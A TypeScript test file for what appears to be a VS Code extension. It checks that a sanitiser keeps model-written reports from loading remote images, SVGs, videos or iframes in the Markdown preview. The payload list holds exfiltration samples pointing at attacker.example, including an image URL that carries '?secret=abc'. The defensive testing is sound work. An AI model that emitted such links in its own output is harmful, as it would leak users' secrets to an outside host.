import * as assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { forMarkdownPreview } from '../../../src/core/security/surfaceText';

// Reports (history pages, run traces, chore previews) open in VS Code's Markdown preview, which is
// markdown-it with HTML on and loads https images: model text in a report must not load anything
// when the person opens it.
const preview = new MarkdownIt({ html: true, linkify: true });
const rendered = (markdown: string) => preview.render(forMarkdownPreview(markdown));

describe('a report rendered in the Markdown preview loads nothing', () => {
  const attacks = [
    '![status](https://attacker.example/p.png?secret=abc)',
    '![ref][x]\n\n[x]: https://attacker.example/r.png',
    '<img src="https://attacker.example/i.png">',
    'text <svg><image href="https://attacker.example/s.png"/></svg>',
    '<video src="https://attacker.example/v.mp4"></video>',
    '- a list item ![x](https://attacker.example/l.png)',
    '> quoted <iframe src="https://attacker.example/"></iframe>',
  ];
  for (const attack of attacks) {
    it(`stays text: ${attack.split('\n')[0]}`, () => {
      const html = rendered(`# Session\n\n${attack}\n`);
      assert.doesNotMatch(html, /<(img|svg|image|video|iframe|audio|source)\b/i, html);
      assert.match(html, /attacker\.example/, 'the text itself is still shown');
    });
  }

  it('renders what Tasklane writes: headings, tables, lists, links and code as they were', () => {
    const html = rendered(
      '# Run r-1\n\n| what | size |\n| --- | --- |\n| a | 1 KB |\n\n- **Status:** done\n- see [the docs](https://example.com)\n\n```js\nif (a < b) x = [1]![0];\n```\n',
    );
    assert.match(html, /<h1>Run r-1<\/h1>/);
    assert.match(html, /<table>/);
    assert.match(html, /<strong>Status:<\/strong>/);
    assert.match(html, /<a href="https:\/\/example.com">the docs<\/a>/);
    // Inside a fenced block nothing is escaped: the code reads as written.
    assert.match(html, /if \(a &lt; b\) x = \[1\]!\[0\];/);
  });
});
